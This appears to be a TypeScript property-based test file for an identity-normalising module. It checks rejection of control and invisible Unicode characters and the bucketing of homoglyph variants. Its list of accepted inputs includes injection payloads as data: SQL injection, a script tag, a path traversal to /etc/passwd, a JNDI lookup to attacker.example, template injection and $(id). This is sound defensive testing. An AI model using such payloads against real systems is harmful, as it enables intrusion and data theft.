import assert from "node:assert/strict";
import { test } from "node:test";
import * as fc from "fast-check";
import { bucketKey, canonicalIdentity, isGuestIdentity, MAX_IDENTITY_BYTES } from "./identity.ts";

const RUNS = process.env["HANDSTAMP_LONG"] ? 100_000 : 300;

/** After the public lists of naughty strings: what breaks parsers, logs, terminals and eyes. */
const REFUSED: Record<string, string> = {
  nothing: "",
  "a space": " ",
  "a space in front": " alice",
  "a space behind": "alice ",
  NUL: "alice\u0000",
  CR: "alice\rbob",
  LF: "alice\nbob",
  "a log line of its own": 'alice\r\n{"level":"info"}',
  "a header of its own": "alice\r\nSet-Cookie: a=b",
  tab: "alice\tbob",
  ESC: "\u001b[31malice",
  DEL: "alice\u007f",
  "a C1 control": "alice\u0085",
  "line separator": "alice\u2028bob",
  "paragraph separator": "alice\u2029bob",
  "zero-width space": "al\u200bice",
  "zero-width joiner": "al\u200dice",
  "zero-width non-joiner": "al\u200cice",
  "byte order mark": "\ufeffalice",
  "word joiner": "al\u2060ice",
  "soft hyphen": "al\u00adice",
  "right-to-left override": "\u202eecila",
  "right-to-left mark": "alice\u200f",
  isolate: "\u2066alice\u2069",
  "Arabic letter mark": "alice\u061c",
  "Mongolian vowel separator": "al\u180eice",
  "Hangul filler": "\u3164",
  "half-width Hangul filler": "\uffa0alice",
  "braille blank": "\u2800",
  "combining grapheme joiner": "a\u034fb",
  "variation selector": "alice\ufe0f",
  "tag characters": "alice\u{e0061}\u{e0062}",
  "no-break space": "alice\u00a0bob",
  "ideographic space": "alice\u3000bob",
  "thin space": "alice\u2009bob",
  "a high surrogate alone": "alice\ud83d",
  "a low surrogate alone": "\ude00alice",
  "surrogates the wrong way round": "\ude00\ud83d",
  "a noncharacter": "alice\ufffe",
  "a noncharacter beyond": "alice\u{1ffff}",
  "private use": "alice\ue000",
  "the replacement character": "alice\ufffd",
  "interlinear annotation": "alice\ufff9",
  "257 bytes": "a".repeat(257),
  "258 bytes in 129 letters": "é".repeat(129),
  "a megabyte": "a".repeat(1 << 20),
};

const KEPT: readonly string[] = [
  "alice",
  "alice@example.com",
  "Alice Smith",
  "auth0|5f7c8ec7c33c6c004bbafe82",
  "42",
  "-1",
  "null",
  "undefined",
  "true",
  "NaN",
  "__proto__",
  "constructor",
  "' OR 1=1 --",
  "<script>alert(1)</script>",
  "../../etc/passwd",
  "${jndi:ldap://attacker.example}",
  "%00",
  "%0d%0a",
  "{{7*7}}",
  "$(id)",
  "José",
  "Zoë",
  "Ελένη",
  "Наталья",
  "राम",
  "田中さん",
  "مريم",
  "שרה",
  "🙂",
  "😍💩",
  "a".repeat(256),
  "é".repeat(128),
];

for (const [name, text] of Object.entries(REFUSED))
  test(`identity: refuses ${name}, quoting nothing`, () => {
    assert.throws(
      () => canonicalIdentity(text),
      (error: Error & { code?: string }) =>
        error.code === "identity_invalid" &&
        error.message.length < 100 &&
        /^[ -~]+$/.test(error.message),
    );
  });

test("identity: refuses what is no text", () => {
  for (const value of [undefined, null, 42, true, {}, ["alice"], Symbol("alice")])
    assert.throws(() => canonicalIdentity(value), { code: "identity_invalid" });
});

test("identity: keeps odd but honest texts as they are", () => {
  for (const text of KEPT) assert.equal(canonicalIdentity(text), text.normalize("NFC"));
});

test("identity: two spellings of one letter are one identity", () => {
  assert.equal(canonicalIdentity("Zoe\u0308"), canonicalIdentity("Zo\u00eb"));
  assert.equal(canonicalIdentity("\u212bngstrom"), "\u00c5ngstrom");
});

test("identity: whatever is accepted is canonical, short and clean", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
      let identity: string;
      try {
        identity = canonicalIdentity(text);
      } catch (error) {
        return (error as { code?: string }).code === "identity_invalid";
      }
      return (
        canonicalIdentity(identity) === identity &&
        Buffer.byteLength(identity) <= MAX_IDENTITY_BYTES &&
        Buffer.from(identity).toString() === identity &&
        !/[\p{C}\p{Zl}\p{Zp}]/u.test(identity.replace(/\p{Cn}/gu, ""))
      );
    }),
    { numRuns: RUNS },
  );
});

const ONE_BUCKET: readonly (readonly string[])[] = [
  ["alice", "ALICE", "Alice", "аlice", "ALIСE", "ａｌｉｃｅ", "𝒶𝓁𝒾𝒸ℯ", "álicé", "αlιce"],
  ["strasse", "straße", "STRASSE", "STRAẞE", "ſtraße"],
  ["paypal", "раураl", "PAYPAL"],
  ["istanbul", "İstanbul", "ıstanbul"],
  ["σοφος", "ΣΟΦΟΣ"],
  ["learner:7", "learner：7", "LEARNER:7"],
];

for (const [first = "", ...others] of ONE_BUCKET)
  test(`identity: ${first} and its variants count in one bucket`, () => {
    for (const other of others) assert.equal(bucketKey(other), bucketKey(first), other);
  });

test("identity: distinct names keep distinct buckets", () => {
  const names = ["alice", "bob", "user1", "user2", "राम", "रमा", "田中", "中田", "Наталья"];
  assert.equal(new Set(names.map(bucketKey)).size, names.length);
});

test("identity: a bucket's key is its own, and does not depend on case", () => {
  const identity = fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 });
  fc.assert(
    fc.property(identity, (text) => {
      const key = bucketKey(text);
      return bucketKey(key) === key && bucketKey(text.normalize("NFD")) === key;
    }),
    { numRuns: RUNS },
  );
});

test("identity: case and form of no character open another bucket", () => {
  const end = process.env["HANDSTAMP_LONG"] ? 0x110000 : 0x2000;
  for (let code = 0x21; code < end; code++) {
    if (code >= 0xd800 && code < 0xe000) continue;
    const text = `a${String.fromCodePoint(code)}b`;
    const key = bucketKey(text);
    for (const other of [key, text.toUpperCase(), text.toLowerCase(), text.normalize("NFKC")])
      assert.equal(bucketKey(other), key, `U+${code.toString(16)}`);
  }
});

test("identity: the guests' prefix is known in all its disguises", () => {
  for (const text of [
    "guest:a",
    "GUEST:a",
    "gueѕt:a",
    "ｇｕｅｓｔ：a",
    "guest\u02d0a".replace("\u02d0", "∶"),
  ])
    assert.ok(isGuestIdentity(text), text);
  for (const text of ["guest", "guests:a", "a guest:", "learner:guest:a"])
    assert.ok(!isGuestIdentity(text));
});
